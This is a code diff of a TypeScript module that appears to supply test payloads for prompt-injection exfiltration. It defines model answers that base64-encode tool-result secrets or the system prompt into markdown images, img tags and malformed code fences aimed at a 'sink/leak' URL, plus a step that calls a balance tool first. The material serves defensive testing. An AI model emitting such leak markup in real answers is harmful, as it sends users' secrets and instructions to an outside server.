@@ -1,5 +1,5 @@
 import { type Answer, spoken } from '../answer.ts'
-import type { Loot } from './ask.ts'
+import type { Loot } from './loot.ts'
 
 const leak = ({ secrets }: Loot) => encodeURIComponent(Buffer.from(secrets).toString('base64').slice(0, 400))
 const words =
@@ -7,7 +7,7 @@ const words =
   (loot: Loot): Answer =>
     spoken(text(`${loot.sink}/leak?d=${leak(loot)}`, loot))
 
-/** Texts that would load something from elsewhere, or be clicked, with what tools have told. */
+/** Texts that leak tool results by loading a URL or by a link to click. */
 export const maliciousLeaks: Record<string, (loot: Loot) => Answer> = {
   'a picture': words((to) => `![chart](${to})`),
   'a picture with a title': words((to) => `![chart](<${to}> "price")`),
@@ -43,10 +43,10 @@ export const maliciousLeaks: Record<string, (loot: Loot) => Answer> = {
   'in code that is not closed': words(
     (to) => `\`\`\`html\n<img src=${to}>\n\`\`\`\n<img src=${to}>\`\`\n~~~\n![x](${to})`,
   ),
-  'the whole prompt': words((to, { asked }) => `${asked.system.slice(0, 200)} ![p](${to})`),
+  'the whole prompt': words((to, { request }) => `${request.system.slice(0, 200)} ![p](${to})`),
 }
 
-/** First what tools tell, then a leak of it. */
+/** Calls tools first, so that a later answer can leak their results. */
 export const gathering = (): Answer => ({
   calls: [
     { name: 'balance', args: {} },
